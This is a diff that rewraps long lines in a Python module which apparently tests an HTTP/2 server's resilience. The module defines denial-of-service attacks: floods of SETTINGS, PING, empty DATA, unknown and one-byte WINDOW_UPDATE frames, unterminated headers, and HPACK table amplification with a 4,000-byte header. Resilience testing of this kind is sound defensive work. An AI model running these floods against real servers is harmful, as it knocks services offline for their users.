@@ -1,4 +1,6 @@
-"""HTTP/2 as the standard allows it and nobody means it: floods of what costs the sender nothing, and windows of next to nothing."""
+"""HTTP/2 as the standard allows it and nobody means it: floods of what costs the sender nothing, and windows
+of next to nothing.
+"""
 
 from __future__ import annotations
 
@@ -50,7 +52,9 @@ def headers_without_end(target: Target) -> None:
 
 
 def headers_by_number(target: Target) -> None:
-    """A header of 4,000 bytes in the table of the connection, named a thousand times a call by one byte each."""
+    """A header of 4,000 bytes in the table of the connection, named a thousand times a call by one
+    byte each.
+    """
     name, value = b"x-large", b"y" * 4000
     # Lengths of 127 and more go on in further bytes, seven bits each.
     more = len(value) - 127
@@ -58,7 +62,10 @@ def headers_by_number(target: Target) -> None:
     for _ in range(target.times(10)):
         link = target.link(http2.PREFACE + http2.settings())
         if http2.sent(link, http2.call_headers("Stats", 1, large)):
-            http2.sent(link, b"".join(http2.call_headers("Stats", stream, b"\xbe" * 1000) for stream in range(3, 401, 2)))
+            http2.sent(
+                link,
+                b"".join(http2.call_headers("Stats", stream, b"\xbe" * 1000) for stream in range(3, 401, 2)),
+            )
 
 
 def byte_by_byte(target: Target) -> None:
@@ -72,12 +79,25 @@ def byte_by_byte(target: Target) -> None:
 
 
 ATTACKS: Final = (
-    Attack("settings", functools.partial(flood, words=http2.settings(window=1000), count=100_000), seconds=0.5),
-    Attack("pings", functools.partial(flood, words=http2.frame(http2.PING, 0, 0, bytes(8)), count=100_000), seconds=0.5),
     Attack(
-        "empty data", functools.partial(flood, words=http2.frame(http2.DATA, 0, 1), count=100_000, first=http2.call_headers("Stats", 1))
+        "settings", functools.partial(flood, words=http2.settings(window=1000), count=100_000), seconds=0.5
     ),
-    Attack("frames of no known kind", functools.partial(flood, words=http2.frame(77, 255, 0, bytes(100)), count=50_000), seconds=0.5),
+    Attack(
+        "pings",
+        functools.partial(flood, words=http2.frame(http2.PING, 0, 0, bytes(8)), count=100_000),
+        seconds=0.5,
+    ),
+    Attack(
+        "empty data",
+        functools.partial(
+            flood, words=http2.frame(http2.DATA, 0, 1), count=100_000, first=http2.call_headers("Stats", 1)
+        ),
+    ),
+    Attack(
+        "frames of no known kind",
+        functools.partial(flood, words=http2.frame(77, 255, 0, bytes(100)), count=50_000),
+        seconds=0.5,
+    ),
     Attack(
         "windows of one byte",
         functools.partial(flood, words=http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), count=100_000),
